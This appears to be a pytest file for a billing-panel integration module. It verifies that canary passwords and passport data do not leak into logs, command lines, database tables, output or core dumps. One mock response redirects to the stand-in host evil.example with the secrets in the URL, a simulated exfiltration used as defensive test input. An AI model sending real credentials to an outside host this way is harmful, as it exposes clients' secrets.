"""Canaries: the connection's password, the server's password and a client's papers stand where they belong,
and nowhere else.
"""

from __future__ import annotations

import json
import os
import resource
import signal
import subprocess
import threading
import time
from pathlib import Path
from typing import List
from xml.sax.saxutils import escape, quoteattr

import pytest
from kit.reseller import PASSPORT, PASSWORD
from kit.wire import said

from bill2bill.config import connection
from bill2bill.rules.statuses import ServiceState
from bill2bill.upstream.api import Service, ServiceForm

from .stages import CLEAN, PROCESSING, REGISTRAR, Job, Stage

PAPERS = (PASSPORT, PASSPORT.replace(" ", ""), PASSPORT.replace(" ", "+"), PASSPORT.replace(" ", "%20"))
LOGIN = (PASSWORD, "canary-word")


class Watcher(threading.Thread):
    """Looks at the command line of every process, again and again."""

    def __init__(self, canaries: List[str], executable: str) -> None:
        super().__init__(daemon=True)
        self.canaries, self.executable = [canary.encode() for canary in canaries], executable.encode()
        self.seen: List[bytes] = []
        self.samples = 0
        self.over = threading.Event()

    def run(self) -> None:
        while not self.over.wait(0.05):
            for process in Path("/proc").iterdir():
                if process.name.isdigit():
                    self._look(process)

    def _look(self, process: Path) -> None:
        try:
            line = (process / "cmdline").read_bytes()
        except OSError:
            return  # it has ended
        self.samples += self.executable in line
        self.seen += [line for canary in self.canaries if canary in line]


def echoing(canaries: List[str], how: str) -> bytes:
    """A refusal that repeats all that it was ever told."""
    words = " ".join(canaries)
    last, param = canaries[-1], [{"$name": words, "$": words}]
    if how == "xml":
        attributes = " ".join(f"{name}={quoteattr(words)}" for name in ("object", "obj", "val", "msg"))
        inner = "".join(
            f"<param name={quoteattr(name)}>{escape(words)}</param>"
            for name in ("object", "value", "desc", *canaries)
        )
        secrets = f"<authinfo>{escape(words)}</authinfo><password>{escape(words)}</password>"
        error = f'<error type="value" code="4" {attributes}>{inner}<msg>{escape(words)}</msg></error>'
        return said(f"<doc><tparams>{secrets}</tparams>{error}</doc>".encode())
    if how == "json":
        error = {
            "code": words[:19],
            "obj": words,
            "val": words,
            "msg": words,
            "$type": words,
            "$object": last,
            "param": param,
        }
        return said(
            json.dumps(
                {
                    "error": error,
                    "tparams": {"password": words},
                    "doc": {"error": error, "tparams": {"authinfo": words}},
                }
            ).encode()
        )
    if how == "json of version 6":
        return said(
            json.dumps(
                {
                    "doc": {
                        "error": {"$type": canaries[0], "$object": last, "msg": {"$": words}, "param": param}
                    }
                }
            ).encode()
        )
    if how == "redirect":
        return said(
            words.encode(),
            f"Location: https://evil.example/{escape(words)}?authinfo={words}",
            status="302 Found",
        )
    return said(f"<html>{words}</html>".encode(), f"X-Echo: {words}", status=f"500 {words}")


ECHOES = {"registrar": ("xml", "json", "redirect"), "processing": ("xml", "json of version 6", "page")}


def test_canaries_are_in_no_log_no_command_line_no_task_and_no_journal(stage: Stage):
    stage.panel.call("sandbox.set", task_type="empty")
    (stage.root / "etc" / "debug.conf").write_text(f"{stage.kind.executable}.* 9\n")
    name = f"canary.{stage.kind.zone}"
    job = stage.paid(name)[name]
    said_aloud: List[bytes] = []
    assert stage.carry_out("open", job).status == 0
    servers = (
        [row["password"] for row in stage.up.get("state")["services"]] if stage.kind is PROCESSING else []
    )
    canaries = [*LOGIN, *PAPERS, *servers]
    watcher = Watcher(canaries, stage.kind.executable)
    watcher.start()
    try:
        for how in ECHOES[stage.kind.name]:
            said_aloud += go_wrong(stage, job, how, servers)
    finally:
        watcher.over.set()
        watcher.join()
    assert watcher.samples > 10, "nobody was watched"
    assert watcher.seen == []
    unspoken = [canary for canary in canaries if any(canary.encode() in text for text in said_aloud)]
    assert unspoken == []
    for path in written(stage):
        assert [canary for canary in canaries if canary.encode() in path.read_bytes()] == [], path
    for table in (
        "runningoperation",
        "sandbox_history",
        "task",
        "sandbox_problem",
        "history_item",
        "itemparam",
        "processingparam",
    ):
        text = str(stage.rows(f"SELECT * FROM {table}"))
        assert [canary for canary in canaries if canary in text] == [], table


def spoken_to(func: str, servers: List[str]) -> List[str]:
    """The secrets that a call tells the provider, or that were shown before it."""
    if func in ("domaincontact.edit", "domain.order.4"):
        return [PASSWORD, PASSPORT]
    return [PASSWORD, *servers] if func in ("service.prolong", "vds.edit") else [PASSWORD]


def go_wrong(stage: Stage, job: Job, how: str, servers: List[str]) -> List[bytes]:
    """Every kind of call is answered by what it told itself; what the module printed."""
    stage.man.honest()
    stage.man.answers(lambda asked: asked.path.startswith("/echo"), echoing([PASSWORD], how))
    printed = [
        stage.check(url=f"{stage.man.origin}/echo/billmgr"),
        stage.check(url=f"{stage.man.origin}/echo/billmgr", dialect="auto"),
    ]
    for func in (stage.kind.spends, "domain.renew", "service.prolong", "vds.edit", "domaincontact.edit"):
        meant = lambda asked, func=func: asked.func == func and asked.params.get("sok") == "ok"  # noqa: E731
        stage.man.answers(meant, echoing(spoken_to(func, servers), how))
    number = ECHOES[stage.kind.name].index(how)
    name = f"echo{number}.{stage.kind.zone}"
    order = stage.paid(name)[name]
    if stage.kind is REGISTRAR:  # another address makes another contact, which has to be sent
        stage.panel.change(
            "UPDATE service_profileparam SET value = ? WHERE intname = 'location_address'", f"Mira {number}-7"
        )
    printed.append(stage.carry_out("open", order))
    renewal = stage.panel.new("sandbox.operation", item=job.item, command="prolong")
    printed.append(stage.carry_out("prolong", Job(job.item, renewal)))
    if stage.kind is PROCESSING:
        stage.panel.change("UPDATE item SET intvalue = 2 WHERE parent = ?", job.item)
        change = stage.panel.new("sandbox.operation", item=job.item, command="setparam")
        printed.append(stage.carry_out("setparam", Job(job.item, change)))
    assert not [ran for ran in printed[:3] if ran.status == 0], how
    stage.panel.change("DELETE FROM runningoperation")
    return [ran.out + ran.err for ran in printed]


def written(stage: Stage) -> List[Path]:
    """All that the panel and our module have written, but for the panel's own database (whose tables are
    looked at one by one).
    """
    files = [
        path
        for path in (stage.root / "var").rglob("*")
        if path.is_file() and "billmgr.sqlite3" not in path.name
    ]
    names = {path.name for path in files}
    assert {"mgrctl.jsonl", f"{stage.kind.executable}.log", "state.sqlite3"} <= names, names
    assert (stage.root / "var" / f"{stage.kind.executable}.log").read_text().count(" DEBUG ") > 5, (
        "the log was not looked into at its most talkative"
    )
    return files


@pytest.mark.cold
def test_a_module_that_crashes_leaves_no_dump_of_its_memory(stage: Stage):
    waits = threading.Event()
    stage.man.answers(
        lambda asked: asked.path == "/wait/billmgr", lambda connection: waits.set() or time.sleep(3)
    )
    form = stage.form(url=f"{stage.man.origin}/wait/billmgr")
    words = [str(stage.root / "processing" / stage.kind.executable), "--command", "check_connection"]
    most = resource.getrlimit(resource.RLIMIT_CORE)[1]
    child = subprocess.Popen(
        words, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=stage.root,
        env=CLEAN,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CORE, (most, most)),
    )  # fmt: skip
    assert child.stdin
    child.stdin.write(form)
    child.stdin.close()
    assert waits.wait(30)
    child.send_signal(signal.SIGABRT)
    _, status = os.waitpid(child.pid, 0)
    child.returncode = -signal.SIGABRT
    assert os.WIFSIGNALED(status), "it was to crash"
    assert not os.WCOREDUMP(status)
    assert list(stage.root.glob("core*")) == []


@pytest.mark.parametrize("kind", ["registrar", "processing"])
def test_what_holds_a_password_does_not_show_it(kind: str):
    assert "canary" not in repr(connection(kind, 1, {"password": PASSWORD, "username": "reseller"}))
    service = Service(1, "vm", ServiceState.ACTIVE, "", None, 1, "", None, None, "", False)
    assert "canary" not in repr(ServiceForm(service, {}, "root", PASSWORD))
